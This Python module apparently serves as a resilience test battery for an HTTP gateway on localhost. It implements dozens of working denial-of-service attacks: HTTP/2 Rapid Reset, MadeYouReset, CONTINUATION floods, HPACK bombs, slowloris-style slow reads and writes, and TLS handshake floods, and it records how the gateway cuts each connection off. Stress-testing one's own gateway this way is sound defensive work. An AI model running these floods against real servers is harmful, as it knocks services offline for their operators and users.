"""The attacks, by name. Each goes on until its time is up, coming back whenever it is sent away."""

from __future__ import annotations

import os
import socket
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field as member

from .wire import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PRIORITY, PRIORITY_UPDATE,
    RST_STREAM, SETTINGS, UNKNOWN, WINDOW_UPDATE, Attacker, Target, field, frame, head, integer, number, request,
    setting, text)


@dataclass
class Course:
    """How an attack went: what became of its connections."""

    deadline: float
    target: Target
    connections: int = 0
    ends: dict[str, int] = member(default_factory=dict)
    #: Seconds from a connection's beginning to its end, the longest.
    longest: float = 0.0
    #: Connections that were still welcome when the time was up, and how long the oldest of them had lasted.
    left: int = 0
    oldest: float = 0.0
    bytes_sent: int = 0

    @property
    def goes_on(self) -> bool:
        return time.monotonic() < self.deadline

    def open(self, **options) -> Attacker | None:
        """A new connection; None where the gateway takes none at the moment."""
        try:
            attacker = Attacker(self.target, **options)
        except OSError:
            self.ends["not accepted"] = self.ends.get("not accepted", 0) + 1
            time.sleep(0.05)
            return None
        self.connections += 1
        return attacker

    def over(self, attacker: Attacker) -> None:
        """Notes how a connection ended, or that it didn't."""
        lasted = time.monotonic() - attacker.started
        if attacker.is_over:
            self.ends[attacker.end] = self.ends.get(attacker.end, 0) + 1
            self.longest = max(self.longest, lasted)
        else:
            self.left += 1
            self.oldest = max(self.oldest, lasted)
        attacker.close()

    @property
    def cut(self) -> int:
        return sum(count for end, count in self.ends.items() if end != "not accepted")


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    run: Callable[[Course], None]
    #: Ended by a time limit, not by what it costs: takes as long as the limit.
    is_slow: bool = False
    #: What a client of good faith may ask too: nobody is cut off for it.
    is_load: bool = False
    #: Nothing of it is for a backend to see.
    is_in_vain: bool = False
    #: Seconds at full length, where that isn't as for all.
    seconds: float | None = None


BATTERY: list[Attack] = []


def attack(name: str, what: str, **options):
    def register(run):
        BATTERY.append(Attack(name, what, run, **options))
        return run
    return register


def flood(course: Course, chunks: Callable[[Attacker], Iterator[bytes]], *, reads: bool = True, **options) -> None:
    """Sends what `chunks` yields for as long as the gateway lets it; then again, on a new connection."""
    while course.goes_on:
        attacker = course.open(**options)
        if attacker is None:
            continue
        for chunk in chunks(attacker):
            if not course.goes_on or not attacker.send(chunk):
                break
            course.bytes_sent += len(chunk)
            if reads:
                while attacker.read():
                    pass
            if attacker.is_over:
                break
        attacker.wait_for_end(min(1.0, max(0.0, course.deadline - time.monotonic())))
        course.over(attacker)


def repeated(unit: Callable[[Attacker], bytes], times: int = 400) -> Callable[[Attacker], Iterator[bytes]]:
    """The same frames over and over."""
    def chunks(attacker):
        prepared = unit(attacker) * times
        while True:
            yield prepared
    return chunks


def opened(attacker: Attacker, count: int = 1, method: bytes = b"POST", path: bytes = b"/", **options) -> list[int]:
    """Begins requests and returns their streams."""
    streams = [attacker.next_stream() for _ in range(count)]
    attacker.send(b"".join(request(stream, method, path, **options) for stream in streams))
    attacker.read(0.05)
    return streams


# Resets

@attack("rapid reset", "HEADERS and RST_STREAM at once, over and over (CVE-2023-44487)")
def _(course):
    def chunks(attacker):
        while True:
            streams = [attacker.next_stream() for _ in range(100)]
            yield b"".join(request(s, path=b"/slow") + frame(RST_STREAM, 0, s, number(8)) for s in streams)
    flood(course, chunks)


@attack("rapid reset, late", "a hundred requests that reach the backend, then their resets")
def _(course):
    def chunks(attacker):
        while True:
            streams = [attacker.next_stream() for _ in range(100)]
            yield b"".join(request(s, path=b"/slow") for s in streams)
            attacker.read(0.1)
            yield b"".join(frame(RST_STREAM, 0, s, number(8)) for s in streams)
    flood(course, chunks)


@attack("rapid reset, no error", "the same with NO_ERROR as the reason")
def _(course):
    def chunks(attacker):
        while True:
            streams = [attacker.next_stream() for _ in range(100)]
            yield b"".join(request(s, path=b"/slow") + frame(RST_STREAM, 0, s, number(0)) for s in streams)
    flood(course, chunks)


def provoke(trigger: Callable[[int], bytes], *, pause: float = 0.0, method: bytes = b"GET", ends: bool = True,
            more: bytes = b""):
    """Requests that the gateway itself has to reset (MadeYouReset, CVE-2025-8671)."""
    def run(course):
        def chunks(attacker):
            while True:
                streams = [attacker.next_stream() for _ in range(50)]
                requests = b"".join(request(s, method, b"/slow", more, ends=ends) for s in streams)
                triggers = b"".join(map(trigger, streams))
                if pause:
                    yield requests
                    attacker.read(pause)
                    yield triggers
                else:
                    yield requests + triggers
        flood(course, chunks)
    run.is_in_vain = not pause
    return run


OVERFLOW = lambda s: frame(WINDOW_UPDATE, 0, s, number(2**31 - 1)) * 2  # noqa: E731
for name, what, run in [
    ("MadeYouReset: window overflow", "WINDOW_UPDATE past 2³¹−1 on each stream", provoke(OVERFLOW)),
    ("MadeYouReset: overflow, late", "the same once the backend has the requests", provoke(OVERFLOW, pause=0.1)),
    ("MadeYouReset: zero increment", "WINDOW_UPDATE by nothing",
     provoke(lambda s: frame(WINDOW_UPDATE, 0, s, number(0)))),
    ("MadeYouReset: DATA after the end", "DATA on streams that the client has ended",
     provoke(lambda s: frame(DATA, 0, s, b"x"))),
    ("MadeYouReset: HEADERS after the end", "HEADERS on streams that the client has ended",
     provoke(lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, head()))),
    ("MadeYouReset: depends on itself", "PRIORITY of a stream on itself",
     provoke(lambda s: frame(PRIORITY, 0, s, number(s) + b"\x10"))),
    ("MadeYouReset: short PRIORITY", "PRIORITY of four bytes", provoke(lambda s: frame(PRIORITY, 0, s, bytes(4)))),
    ("MadeYouReset: short body", "an end before content-length is reached",
     provoke(lambda s: frame(DATA, END_STREAM, s, b"x"), method=b"POST", ends=False,
             more=field(b"content-length", b"100"), pause=0.05)),
    ("MadeYouReset: long body", "more DATA than content-length",
     provoke(lambda s: frame(DATA, 0, s, b"xx"), method=b"POST", ends=False, more=field(b"content-length", b"1"),
             pause=0.05)),
]:
    attack(name, what, is_in_vain=run.is_in_vain)(run)


# Frames that carry nothing

@attack("CONTINUATION flood", "a header section without end (CVE-2024-27316)")
def _(course):
    def chunks(attacker):
        stream = attacker.next_stream()
        yield frame(HEADERS, END_STREAM, stream, head())
        while True:
            yield frame(CONTINUATION, 0, stream, field(b"x-more", b"a" * 1000) * 10)
    flood(course, chunks)


@attack("empty CONTINUATION flood", "the same with nothing in the frames")
def _(course):
    def chunks(attacker):
        stream = attacker.next_stream()
        yield frame(HEADERS, END_STREAM, stream, head())
        while True:
            yield frame(CONTINUATION, 0, stream) * 100
    flood(course, chunks)


def simple(name: str, what: str, unit: Callable[[Attacker], bytes], **options) -> None:
    attack(name, what)(lambda course: flood(course, repeated(unit), **options))


simple("SETTINGS flood", "a change of settings, over and over",
       lambda _: frame(SETTINGS, 0, 0, setting(4, 65535) + setting(1, 4096)))
simple("empty SETTINGS flood", "SETTINGS with nothing in them", lambda _: frame(SETTINGS, 0, 0))
simple("SETTINGS flood, unread", "the same, and the acknowledgements aren't read", lambda _: frame(SETTINGS, 0, 0),
       reads=False)
simple("PING flood", "PING", lambda _: frame(PING, 0, 0, bytes(8)))
simple("PING flood, unread", "PING, and the answers aren't read", lambda _: frame(PING, 0, 0, bytes(8)), reads=False)
simple("PING answer flood", "answers to PINGs that nobody sent", lambda _: frame(PING, ACK, 0, bytes(8)))
simple("PRIORITY flood", "PRIORITY of one idle stream", lambda _: frame(PRIORITY, 0, 1001, bytes(4) + b"\x10"))
simple("PRIORITY_UPDATE flood", "RFC 9218's frame", lambda _: frame(PRIORITY_UPDATE, 0, 0, number(1) + b"u=1"))
simple("unknown-frame flood", "frames of a type that nobody knows", lambda _: frame(UNKNOWN, 0, 0))
simple("unknown-frame flood, long", "the same, of 16 KiB each", lambda _: frame(UNKNOWN, 0, 0, bytes(16384)) * 1)
simple("GOAWAY flood", "GOAWAY", lambda _: frame(GOAWAY, 0, 0, number(0) + number(0)))
simple("connection WINDOW_UPDATE flood", "by one byte", lambda _: frame(WINDOW_UPDATE, 0, 0, number(1)))
simple("stream WINDOW_UPDATE flood", "by one byte, on one stream",
       lambda a: frame(WINDOW_UPDATE, 0, opened(a, ends=False)[0], number(1)))
simple("empty DATA flood", "DATA with nothing in it (CVE-2019-9518)",
       lambda a: frame(DATA, 0, opened(a, ends=False)[0]))
simple("padding flood", "DATA that is padding alone",
       lambda a: frame(DATA, PADDED, opened(a, ends=False)[0], b"\x10" + bytes(16)))
simple("padded-byte flood", "DATA of one byte and 255 of padding",
       lambda a: frame(DATA, PADDED, opened(a, ends=False)[0], b"\xff" + b"x" + bytes(255)))
simple("one-byte DATA flood", "a body in single bytes", lambda a: frame(DATA, 0, opened(a, ends=False)[0], b"x"))


@attack("PRIORITY tree churn", "PRIORITY that moves hundreds of streams about")
def _(course):
    def chunks(attacker):
        while True:
            yield b"".join(
                frame(PRIORITY, 0, 2 * n + 1001, number(2 * ((n * 7 + 1) % 300) + 1001) + b"\x10") for n in range(300))
    flood(course, chunks)


@attack("window flip-flop", "SETTINGS that change the windows of a hundred streams, over and over")
def _(course):
    def chunks(attacker):
        opened(attacker, 100, b"GET", b"/slow")
        while True:
            yield (frame(SETTINGS, 0, 0, setting(4, 1)) + frame(SETTINGS, 0, 0, setting(4, 65535))) * 50
    flood(course, chunks)


@attack("RST_STREAM flood", "resets of streams that are long closed")
def _(course):
    def chunks(attacker):
        streams = opened(attacker, 3, b"GET")
        while True:
            yield frame(RST_STREAM, 0, streams[0], number(8)) * 400
    flood(course, chunks)


@attack("streams beyond the limit", "a thousand requests at once, SETTINGS never acknowledged")
def _(course):
    def chunks(attacker):
        while True:
            streams = [attacker.next_stream() for _ in range(1000)]
            yield b"".join(request(s, path=b"/slow") for s in streams)
    flood(course, chunks, acknowledges=False)


# Header compression and size

@attack("HPACK bomb", "one entry of 4 KiB, then its index 16 000 times")
def _(course):
    def chunks(attacker):
        entry = field(b"x-bomb", b"a" * 3900, indexed=True)
        yield request(attacker.next_stream(), more=entry)
        while True:
            yield request(attacker.next_stream(), more=b"\xbe" * 16000)
    flood(course, chunks)


@attack("HPACK bomb over CONTINUATION", "the same, 64 KiB of indices to a request")
def _(course):
    def chunks(attacker):
        yield request(attacker.next_stream(), more=field(b"x-bomb", b"a" * 3900, indexed=True))
        while True:
            stream = attacker.next_stream()
            yield (frame(HEADERS, END_STREAM, stream, head()) + frame(CONTINUATION, 0, stream, b"\xbe" * 16000) * 3
                   + frame(CONTINUATION, END_HEADERS, stream, b"\xbe" * 16000))
    flood(course, chunks)


@attack("HPACK bombs unfinished", "header lists of the size allowed, on requests that never end", is_slow=True)
def _(course):
    entry = field(b"x-bomb", b"a" * 3900, indexed=True)
    def prepare(attacker):
        attacker.send(request(attacker.next_stream(), more=entry))
        for _ in range(100):
            attacker.send(request(attacker.next_stream(), b"POST", more=b"\xbe" * 7, ends=False))
    hold(course, 10, prepare)


@attack("HPACK table churn", "each request fills the dynamic table anew")
def _(course):
    def chunks(attacker):
        count = 0
        while True:
            fields = b""
            for _ in range(100):
                count += 1
                fields += field(b"x-%d" % count, b"v%d" % count, indexed=True)
            yield request(attacker.next_stream(), path=b"/slow", more=fields)
    flood(course, chunks)


@attack("HPACK size changes", "the table's size set to nothing and back before each request")
def _(course):
    update = integer(0, 5, 0x20) + integer(4096, 5, 0x20)
    def chunks(attacker):
        while True:
            streams = [attacker.next_stream() for _ in range(50)]
            yield b"".join(
                frame(HEADERS, END_HEADERS | END_STREAM, s, update + head(path=b"/slow")) for s in streams)
    flood(course, chunks)


@attack("indexed cookie crumbs", "cookie crumbs by index, thousands to a request")
def _(course):
    def chunks(attacker):
        yield request(attacker.next_stream(), more=field(b"cookie", b"a=" + b"b" * 60, indexed=True))
        while True:
            yield b"".join(request(attacker.next_stream(), path=b"/slow", more=b"\xbe" * 4000) for _ in range(10))
    flood(course, chunks)


@attack("oversized headers", "requests with 100 KiB of headers")
def _(course):
    def chunks(attacker):
        fields = b"".join(field(b"x-%d" % n, b"a" * 1000) for n in range(100))
        while True:
            stream = attacker.next_stream()
            block = head(more=fields)
            parts = [block[start:start + 16000] for start in range(0, len(block), 16000)]
            yield frame(HEADERS, END_STREAM, stream, parts[0]) + b"".join(
                frame(CONTINUATION, END_HEADERS if part is parts[-1] else 0, stream, part) for part in parts[1:])
    flood(course, chunks)


@attack("endless HTTP/1.1 headers", "header lines without end")
def _(course):
    def chunks(_):
        yield b"GET / HTTP/1.1\r\nHost: acme.test\r\n"
        while True:
            yield b"".join(b"X-%d: %s\r\n" % (n, b"a" * 100) for n in range(50))
    flood(course, chunks, http1=True, tls=False)


@attack("endless HTTP/1.1 line", "one header line without end")
def _(course):
    def chunks(_):
        yield b"GET / HTTP/1.1\r\nX: "
        while True:
            yield b"a" * 8192
    flood(course, chunks, http1=True, tls=False)


@attack("endless chunk extension", "a chunk's size line without end")
def _(course):
    def chunks(_):
        yield b"POST / HTTP/1.1\r\nHost: acme.test\r\nTransfer-Encoding: chunked\r\n\r\n5;x="
        while True:
            yield b"a" * 8192
    flood(course, chunks, http1=True, tls=False)


@attack("endless trailers", "trailer lines without end")
def _(course):
    def chunks(_):
        yield b"POST / HTTP/1.1\r\nHost: acme.test\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n"
        while True:
            yield b"X-Trailer: %s\r\n" % (b"a" * 100) * 50
    flood(course, chunks, http1=True, tls=False)


# Holding on

def hold(course: Course, count: int, prepare: Callable[[Attacker], None],
         drip: Callable[[Attacker], bytes] | None = None, *, every: float = 0.5, reads: bool = True,
         again: bool = False, **options) -> None:
    """Keeps `count` connections in a state, dripping bytes perhaps, until they are ended or the time is up."""
    held: list[Attacker] = []
    for _ in range(count):
        if not course.goes_on:
            break
        attacker = course.open(**options)
        if attacker is not None:
            prepare(attacker)
            held.append(attacker)
    while course.goes_on and held:
        begun = time.monotonic()
        for attacker in list(held):
            if drip is not None:
                attacker.send(drip(attacker))
            if reads:
                while attacker.read():
                    pass
            elif attacker_has_gone(attacker):
                attacker.closed = True
            if attacker.is_over:
                course.over(attacker)
                held.remove(attacker)
        time.sleep(max(0.0, min(every - (time.monotonic() - begun), course.deadline - time.monotonic())))
    for attacker in held:
        course.over(attacker)


def attacker_has_gone(attacker: Attacker) -> bool:
    """Whether the gateway has closed, for somebody who doesn't read: by the state of the socket."""
    states = {1: "ESTABLISHED"}
    try:
        state = attacker.socket.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
    except OSError:
        return True
    return state not in states


# More responses than a worker may have connections to a backend.

@attack("window stall", "1500 requests for 1 MiB with windows of nothing", is_slow=True)
def _(course):
    def prepare(attacker):
        opened(attacker, 100, b"GET", b"/big")
    hold(course, 15, prepare, settings=setting(4, 0))


@attack("one-byte windows", "1500 responses let out one byte at a time", is_slow=True)
def _(course):
    def prepare(attacker):
        opened(attacker, 100, b"GET", b"/big")
    def drip(attacker):
        return b"".join(frame(WINDOW_UPDATE, 0, stream, number(1)) for stream in range(1, 200, 2))
    hold(course, 15, prepare, drip, settings=setting(4, 1))


@attack("connection window stall", "wide stream windows, and none for the connection", is_slow=True)
def _(course):
    hold(course, 15, lambda a: opened(a, 100, b"GET", b"/big"), settings=setting(4, 2**31 - 1))


@attack("slow read", "responses of 1 MiB over h2 that nobody reads", is_slow=True)
def _(course):
    def prepare(attacker):
        attacker.send(frame(WINDOW_UPDATE, 0, 0, number(2**30)) + b"".join(
            request(attacker.next_stream(), path=b"/big") for _ in range(30)))
    hold(course, 50, prepare, reads=False, settings=setting(4, 2**30), receive_buffer=4096)


@attack("slow read, HTTP/1.1", "the same over HTTP/1.1, in the clear", is_slow=True)
def _(course):
    def prepare(attacker):
        attacker.send(b"GET /big HTTP/1.1\r\nHost: acme.test\r\n\r\n" * 20)
    hold(course, 200, prepare, reads=False, http1=True, tls=False, receive_buffer=4096)


@attack("slow headers", "HTTP/1.1 heads a byte at a time (slowloris)", is_slow=True)
def _(course):
    hold(course, 500, lambda a: a.send(b"GET / HTTP/1.1\r\nHost: acme.test\r\nX-"), lambda a: b"a", http1=True,
         tls=False)


@attack("slow headers, large", "30 KiB of headers, then a byte at a time", is_slow=True)
def _(course):
    head_so_far = b"GET / HTTP/1.1\r\nHost: acme.test\r\n" + b"".join(
        b"X-%d: %s\r\n" % (n, b"a" * 1000) for n in range(30)) + b"X-"
    hold(course, 300, lambda a: a.send(head_so_far), lambda a: b"a", http1=True, tls=False)


@attack("slow headers over h2", "header sections a byte at a time", is_slow=True)
def _(course):
    def prepare(attacker):
        attacker.send(frame(HEADERS, END_STREAM, attacker.next_stream(), head()))
    hold(course, 200, prepare, lambda a: frame(CONTINUATION, 0, 1, b""), every=2)


@attack("slow body", "HTTP/1.1 bodies a byte at a time", is_slow=True)
def _(course):
    hold(course, 300, lambda a: a.send(
        b"POST / HTTP/1.1\r\nHost: acme.test\r\nContent-Length: 100000\r\n\r\n"), lambda a: b"x", http1=True, tls=False)


@attack("slow POSTs", "a thousand bodies a byte at a time over h2, each to hold a backend connection", is_slow=True)
def _(course):
    def prepare(attacker):
        opened(attacker, 100, more=field(b"content-length", b"100000"), ends=False)
    def drip(attacker):
        return b"".join(frame(DATA, 0, stream, b"x") for stream in range(1, 200, 2))
    hold(course, 10, prepare, drip, every=5)


@attack("unfinished bodies", "a thousand POSTs that never go on", is_slow=True)
def _(course):
    hold(course, 10, lambda a: opened(a, 100, ends=False))


@attack("full upload windows", "uploads that fill their windows and stop", is_slow=True)
def _(course):
    def prepare(attacker):
        for stream in opened(attacker, 20, path=b"/slow", ends=False):
            attacker.send(frame(DATA, 0, stream, bytes(16000)) * 3)
    hold(course, 30, prepare)


@attack("idle connections", "two thousand that say nothing", is_slow=True)
def _(course):
    hold(course, 2000, lambda a: None, http1=True, tls=False, every=1)


@attack("idle TLS connections", "six hundred that shake hands, ask once and say nothing more", is_slow=True,
        seconds=66)
def _(course):
    hold(course, 600, lambda a: a.send(request(a.next_stream())), every=1)


class HalfHandshake(Attacker):
    """Sends a part of a ClientHello."""

    def __init__(self, target: Target, hello: bytes):
        self.socket = socket.create_connection(("127.0.0.1", target.tls_port), timeout=2)
        self.started = time.monotonic()
        self.closed, self.goaway, self.http1, self.received = False, None, True, 0
        self.send(hello)


def client_hello(target: Target) -> bytes:
    import ssl
    context = ssl.create_default_context(cafile=target.certificate)
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def half_handshakes(course: Course, count: int, hello: bytes) -> None:
    held = []
    while course.goes_on:
        while len(held) < count and course.goes_on:
            try:
                held.append(HalfHandshake(course.target, hello))
                course.connections += 1
            except OSError:
                course.ends["not accepted"] = course.ends.get("not accepted", 0) + 1
                break
        time.sleep(0.2)
        for attacker in list(held):
            while attacker.read():
                pass
            if attacker.is_over:
                course.over(attacker)
                held.remove(attacker)
    for attacker in held:
        course.over(attacker)


@attack("half-open TLS handshakes", "two thousand, each with half a ClientHello", is_slow=True)
def _(course):
    half_handshakes(course, 2000, client_hello(course.target)[:100])


@attack("TLS handshakes left alone", "a thousand that get the server's part and don't answer", is_slow=True)
def _(course):
    half_handshakes(course, 1000, client_hello(course.target))


@attack("TLS handshake flood", "handshakes, and nothing after them")
def _(course):
    while course.goes_on:
        attacker = course.open(preface=False)
        if attacker is not None:
            attacker.close()
            course.ends["left by itself"] = course.ends.get("left by itself", 0) + 1


@attack("garbage", "random bytes instead of TLS")
def _(course):
    while course.goes_on:
        attacker = HalfHandshake(course.target, os.urandom(4096))
        course.connections += 1
        attacker.wait_for_end(0.5)
        course.over(attacker)


@attack("pipelining", "HTTP/1.1 requests by the hundred without reading the answers", is_slow=True, is_load=True)
def _(course):
    hold(course, 50, lambda a: a.send(b"GET / HTTP/1.1\r\nHost: acme.test\r\n\r\n" * 400), reads=False, http1=True,
         tls=False, receive_buffer=4096)


@attack("uploads in crumbs", "an HTTP/1.1 body in chunks of one byte")
def _(course):
    def chunks(_):
        yield b"POST / HTTP/1.1\r\nHost: acme.test\r\nTransfer-Encoding: chunked\r\n\r\n"
        while True:
            yield b"1\r\nx\r\n" * 1000
    flood(course, chunks, http1=True, tls=False)
